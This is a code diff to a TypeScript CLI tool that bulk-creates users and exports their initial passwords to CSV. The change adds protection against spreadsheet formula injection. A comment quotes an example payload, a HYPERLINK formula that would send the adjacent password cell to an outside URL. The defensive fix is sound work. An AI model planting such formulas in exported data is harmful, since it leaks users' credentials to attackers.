@@ -1,7 +1,7 @@
 // `jixiao user add|list|passwd`: the first admin of a new deployment, and user chores from a shell.
 // Acts as the system through the same service as the web screen (validation, audit). Passwords
 // never travel on the command line: generated and shown once, or read from standard input.
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, writeFileSync } from 'node:fs';
 import { Command, Option } from 'commander';
 import { SYSTEM_ACTOR, type Role } from '../../domain/access.js';
 import { ROLE_ORDER } from '../../domain/userAdmin.js';
@@ -13,6 +13,7 @@ import { readUserRows } from '../../domain/userImport.js';
 import { readRows } from '../../documents/import/rows.js';
 import { ReadError } from '../../documents/import/read.js';
 import { progressBar } from '../progress.js';
+import { readInputFile } from '../readInput.js';
 import { userNamed } from '../../services/system.js';
 import type { Services } from '../../services/index.js';
 import { CliError, findUnitOrExit, withDataOption, type RegisterCommand } from '../context.js';
@@ -120,8 +121,9 @@ export const register: RegisterCommand = (program, io) => {
         if (opts.out && existsSync(opts.out)) throw new CliError(`文件已存在，不覆盖 / will not overwrite: ${opts.out}`, 2);
         let table: string[][];
         try {
-          table = await readRows(readFileSync(file), file);
+          table = await readRows(await readInputFile(file), file);
         } catch (e) {
+          if (e instanceof CliError) throw e;
           if (e instanceof ReadError || (e as NodeJS.ErrnoException).code === 'ENOENT')
             throw new CliError(`无法读取 / cannot read ${file}: ${(e as Error).message}`, 2);
           throw e;
@@ -143,7 +145,13 @@ export const register: RegisterCommand = (program, io) => {
           io.out(`检查通过：可创建 ${rows.length} 个用户 / ${rows.length} users would be created\n`);
           return;
         }
-        const csv = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
+        // A cell starting with = + - @ (or a tab or CR) is a formula once the file is opened in a
+        // spreadsheet: a display name =HYPERLINK("http://…?"&E2) would send the password beside it away.
+        // A leading ' keeps it text; quotes, commas and line breaks are quoted.
+        const csv = (text: string) => {
+          const v = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+          return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
+        };
         const lines = [
           '用户名,姓名,角色,单位,初始密码',
           ...result.created.map((u) => [u.username, u.displayName, ROLE_LABEL[u.role], u.unitName ?? '全部单位', u.password].map(csv).join(',')),
